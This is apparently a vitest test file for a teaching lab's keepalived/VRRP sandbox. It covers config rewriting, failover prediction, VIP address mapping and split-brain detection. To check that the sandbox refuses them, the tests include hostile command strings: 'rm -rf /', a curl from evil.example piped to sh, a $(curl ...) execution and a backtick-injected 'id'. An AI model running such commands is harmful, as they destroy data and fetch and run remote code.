/**
 * Lab 3's live mode without running anything: what the rewritten keepalived configuration contains (no
 * learner command, the learner's numbers kept), what a pair's configuration predicts, the VIP mapping,
 * the address sampler's parser, and the loopback skip.
 */
import { describe, expect, it } from 'vitest';
import { parseKeepalived } from '../../labs/core/parsers/keepalived';
import type { KeepalivedConf } from '../../labs/core/parsers/keepalived/types';
import { buildModel } from '../../labs/core/model/build';
import { runLive } from '../../labs/node/live';
import { NO_SPOF_PROBES, isKeepalivedRun, overlapRuns } from '../../labs/node/live/no-spof';
import {
  CHECK_SCRIPT_PATH,
  classifyScript,
  holdsAddress,
  planInstance,
  predict,
  sandboxVip,
  setsNonlocalBind,
} from '../../labs/node/live/vrrp';
import { submission } from './no-spof-helpers';
import { loadLab } from '../../labs/node/specs';

const conf = (text: string): KeepalivedConf => parseKeepalived({ path: 'lb/keepalived.conf', text }).ast;

function pair(name: Parameters<typeof submission>[0]) {
  const { tree, lab } = submission(name);
  const model = buildModel(tree, lab);
  const plans = ['lb-01', 'lb-02'].map((h) =>
    planInstance({
      host: h,
      address: lab.hosts.find((x) => x.name === h)!.address,
      conf: model.hosts[h].units.keepalived![0].ast as KeepalivedConf,
      addressMap: new Map(),
      iface: 'eth0',
      hostName: h,
    }),
  );
  return { a: plans[0]!, b: plans[1]!, model };
}

describe('no-spof live: classifying a track script', () => {
  it.each([
    ['killall -0 haproxy', 'process'],
    ['/usr/bin/killall -0 haproxy', 'process'],
    ['pidof haproxy', 'process'],
    ['/usr/bin/pgrep -x haproxy', 'process'],
    ['systemctl is-active --quiet haproxy', 'process'],
    ['/bin/sh -c "pidof haproxy"', 'process'],
    ['curl -s -f http://localhost/', 'http'],
    ['/usr/bin/curl -sf -m 1 http://127.0.0.1:80/health', 'http'],
    ['nc -z 127.0.0.1 80', 'http'],
  ])('%s is a known check (%s)', (cmd, kind) => {
    expect(classifyScript(cmd)).toBe(kind);
  });
  it.each([
    'killall -0 haproxy; rm -rf /',
    'pidof haproxy && curl http://evil.example/x | sh',
    '/etc/keepalived/check.sh',
    'killall -0 nginx',
    'bash -c "$(curl http://x)"',
    'curl http://203.0.113.9/`id`',
  ])('%s is not run', (cmd) => {
    expect(classifyScript(cmd)).toBeUndefined();
  });
});

describe('no-spof live: the configuration the sandbox runs', () => {
  it('keeps the learner numbers, replaces the command, and runs no notify script', () => {
    const c = conf(`global_defs {
    router_id lb-01
    notification_email { root@example.com }
}
vrrp_script chk_haproxy {
    script "/usr/bin/killall -0 haproxy"
    interval 2
    weight -60
    fall 3
    rise 2
}
vrrp_script chk_other {
    script "/tmp/evil.sh"
    weight 10
}
vrrp_instance VI_1 {
    state MASTER
    interface ens3
    virtual_router_id 51
    priority 150
    advert_int 1
    notify_master "/usr/local/bin/pwn.sh"
    garp_master_delay 1
    authentication {
        auth_type PASS
        auth_pass s3cret
    }
    virtual_ipaddress {
        203.0.113.100/24 dev ens3
    }
    track_script {
        chk_haproxy
        chk_other
    }
}
`);
    const p = planInstance({
      host: 'lb-01',
      address: '10.0.0.10',
      conf: c,
      addressMap: new Map([['203.0.113.100', '10.0.0.100']]),
      iface: 'eth0',
    })!;
    expect(p.text).toContain(`script "${CHECK_SCRIPT_PATH}"`);
    expect(p.text).toMatch(
      /vrrp_script chk_haproxy \{\n\s+script "[^"]+"\n\s+interval 2\n\s+fall 3\n\s+rise 2\n\s+weight -60/,
    );
    for (const bad of ['killall', 'evil', 'pwn', 'notify', 'notification_email', 'ens3', '203.0.113.100'])
      expect(p.text).not.toContain(bad);
    expect(p.text).toContain('interface eth0');
    expect(p.text).toContain('10.0.0.100/24 dev eth0');
    expect(p.text).toContain('garp_master_delay 1');
    expect(p.text).toContain('script_user nobody');
    expect(p.trackers.map((t) => t.name)).toEqual(['chk_haproxy']);
    const said = p.changes.join('\n');
    expect(said).toMatch(/chk_haproxy's command `\/usr\/bin\/killall -0 haproxy`.*replaced/);
    expect(said).toMatch(/chk_other .*not a known check of HAProxy: not run/);
    expect(said).toMatch(/notify_master in VI_1 not used in the sandbox \(no command of yours runs\)/);
    expect(said).toMatch(/interface ens3 -> eth0/);
    expect(p.ok).toBe(150);
    expect(p.down).toBe(90);
  });

  it('a vrrp_track_process of haproxy becomes the check script, weight 0 (FAULT) kept', () => {
    const { a, b } = pair('solution');
    expect(a.text).toContain(`script "${CHECK_SCRIPT_PATH}"`);
    expect(a.text).not.toContain('vrrp_track_process');
    expect(a.trackers).toEqual([expect.objectContaining({ name: 'track_haproxy', from: 'process', weight: 0 })]);
    expect(a.down).toBe('fault');
    const pr = predict(a, b);
    expect(pr.master.host).toBe('lb-01');
    expect(pr.failoverMoves).toBe(true);
    expect(pr.preempts).toBe(true);
    expect(pr.failoverLimitMs).toBe(3000);
  });

  it('weight 2 with priorities 150/100: the prediction says the VIP never moves', () => {
    const { a, b } = pair('broken/weight-2');
    const pr = predict(a, b);
    expect(pr.master.host).toBe('lb-01');
    expect(pr.failoverMoves).toBe(false);
    expect(pr.failoverWhy).toMatch(/drops to priority 150 against lb-02's 102/);
  });

  it('a negative weight that crosses the backup moves it (vrrp-script variant)', () => {
    const { a, b } = pair('broken/vrrp-script');
    const pr = predict(a, b);
    expect(pr.failoverMoves).toBe(true);
    expect(a.text).not.toContain('killall');
    // a weighted drop is no priority-0 advert: the backup waits for its master-down timer
    expect(pr.failoverLimitMs).toBe(Math.round((2 + 3 + 156 / 256 + 1) * 1000));
    expect(pr.failoverFormula).toMatch(/fall 2 x interval 1 s \+ 3 x advert_int 1 s \+ skew 0.61 s/);
  });

  it('two MASTERs with priority 150: the higher address is master, and a tie never preempts', () => {
    const { a, b } = pair('broken/two-masters');
    const pr = predict(a, b);
    expect(pr.master.host).toBe('lb-02');
    expect(pr.preempts).toBe(false);
    expect(pr.preemptWhy).toMatch(/equal priorities 150/);
  });

  it('a track_script typo tracks nothing (as keepalived ignores it)', () => {
    const { a, b } = pair('broken/track-typo');
    expect(a.trackers).toEqual([]);
    expect(a.changes.join('\n')).toMatch(/names no vrrp_script/);
    expect(predict(a, b).failoverMoves).toBe(false);
  });

  it('priority 255 ignores weights', () => {
    const { a } = pair('broken/priority-255');
    expect(a.owner).toBe(true);
    expect(a.changes.join('\n')).toMatch(/address owner/);
  });

  it('nopreempt: the prediction says the VIP stays', () => {
    const { a, b } = pair('fixture/nopreempt');
    const pr = predict(a, b);
    expect(pr.preempts).toBe(false);
    expect(a.text).toContain('nopreempt');
  });

  it("a script's $(hostname) router_id is the host's name", () => {
    const c = conf(
      'global_defs {\n  router_id @HOSTNAME@\n}\nvrrp_instance V {\n  virtual_router_id 1\n  virtual_ipaddress {\n    10.0.0.100\n  }\n}\n',
    );
    const p = planInstance({ host: 'lb-02', address: '10.0.0.15', conf: c, addressMap: new Map(), iface: 'eth0' })!;
    expect(p.text).toContain('router_id lb-02');
  });
});

describe('no-spof live: addresses', () => {
  const hosts = ['10.0.0.10', '10.0.0.15', '10.0.0.11', '10.0.0.12', '10.0.0.13'];
  it("keeps a VIP in the sandbox subnet, maps a public one, never a host's", () => {
    expect(sandboxVip('10.0.0.100', hosts, 24)).toEqual({ vip: '10.0.0.100', mapped: false });
    expect(sandboxVip('203.0.113.100', hosts, 24)).toEqual({ vip: '10.0.0.100', mapped: true });
    expect(sandboxVip('10.0.0.11', hosts, 24).vip).toBe('10.0.0.100');
    expect(sandboxVip('10.0.0.250', hosts, 24, ['10.0.0.250']).vip).toBe('10.0.0.100');
  });
  it('reads who holds an address from fib_trie', () => {
    const trie = `Main:\n  +-- 0.0.0.0/0 3 0 5\n     |-- 10.0.0.0\n        /24 link UNICAST\n        |-- 10.0.0.11\n           /32 host LOCAL\n     |-- 10.0.0.100\n        /32 host LOCAL\n`;
    expect(holdsAddress(trie, '10.0.0.100')).toBe(true);
    expect(holdsAddress(trie, '10.0.0.10')).toBe(false);
    expect(holdsAddress(trie, '10.0.0.0')).toBe(false);
  });
  it('finds ip_nonlocal_bind = 1 in a sysctl file or a script, not in a comment', () => {
    expect(setsNonlocalBind('net.ipv4.ip_nonlocal_bind = 1\n')).toBe(true);
    expect(setsNonlocalBind('sudo sysctl -w net.ipv4.ip_nonlocal_bind=1\n')).toBe(true);
    expect(setsNonlocalBind('echo 1 > /proc/sys/net/ipv4/ip_nonlocal_bind\n')).toBe(true);
    expect(setsNonlocalBind('# net.ipv4.ip_nonlocal_bind = 1\n')).toBe(false);
    expect(setsNonlocalBind('net.ipv4.ip_nonlocal_bind = 0\n')).toBe(false);
  });
});

describe('no-spof live: which group runs', () => {
  it("a keepalived lab's selection or model picks this group; lab 1's does not", () => {
    const { tree, lab } = submission('solution');
    const model = buildModel(tree, lab);
    expect(isKeepalivedRun(new Set(NO_SPOF_PROBES), model)).toBe(true);
    expect(isKeepalivedRun(undefined, model)).toBe(true);
    expect(isKeepalivedRun(new Set(['live/failover', 'live/round-robin']), model)).toBe(false);
    // in lab 3, `--only live/failover` is the VIP failover; in lab 1 it is a web server stopped
    expect(isKeepalivedRun(new Set(['live/failover']), model, lab)).toBe(true);
    expect(isKeepalivedRun(new Set(['live/round-robin']), model, lab)).toBe(false);
    expect(isKeepalivedRun(new Set(['live/failover']), model, loadLab('distributed-web'))).toBe(false);
  });

  it('loopback mode: every probe is skipped, saying VRRP needs namespaces', async () => {
    const { dir, tree, lab } = submission('solution');
    const r = await runLive({ dir, tree, lab, mode: 'loopback', only: new Set(NO_SPOF_PROBES) });
    expect(r.checks.map((c) => [c.id, c.status])).toEqual(NO_SPOF_PROBES.map((id) => [id, 'skip']));
    for (const c of r.checks) expect(c.findings[0].message).toMatch(/need network namespaces/);
    expect(r.debug.runDir).toBe('');
  });
});

describe('no-spof live: when both holding the VIP is a split brain', () => {
  // samples every 100 ms; `x` = both held the VIP in that sample
  const samples = (pattern: string) => [...pattern].map((c, i) => ({ t: 1000 + i * 100, both: c === 'x' }));

  it('one sample during a handover is the handover, not two masters', () => {
    const r = overlapRuns(samples('....x....'), 1000);
    expect(r.long).toEqual([]);
    expect(r.brief).toEqual([{ from: 4, n: 1 }]);
    expect(r.spanMs(r.brief[0])).toBe(100);
  });

  it('an overlap longer than one advert interval is two masters; runs are counted apart', () => {
    const r = overlapRuns(samples('xx...' + 'x'.repeat(11) + '..x.'), 1000);
    expect(r.long).toEqual([{ from: 5, n: 11 }]);
    expect(r.spanMs(r.long[0])).toBe(1100);
    expect(r.brief.map((o) => o.from)).toEqual([0, 18]);
  });

  it('exactly one advert interval is still a handover; the limit follows advert_int', () => {
    expect(overlapRuns(samples('x'.repeat(10) + '.'), 1000).long).toEqual([]);
    expect(overlapRuns(samples('x'.repeat(10) + '.'), 500).long).toEqual([{ from: 0, n: 10 }]);
  });

  it('an overlap still going when sampling stopped never resolved: two masters, however short', () => {
    expect(overlapRuns(samples('.....xxx'), 1000).long).toEqual([{ from: 5, n: 3 }]);
  });

  it('never both: no run at all', () => {
    const r = overlapRuns(samples('.........'), 1000);
    expect(r.long).toEqual([]);
    expect(r.brief).toEqual([]);
  });
});
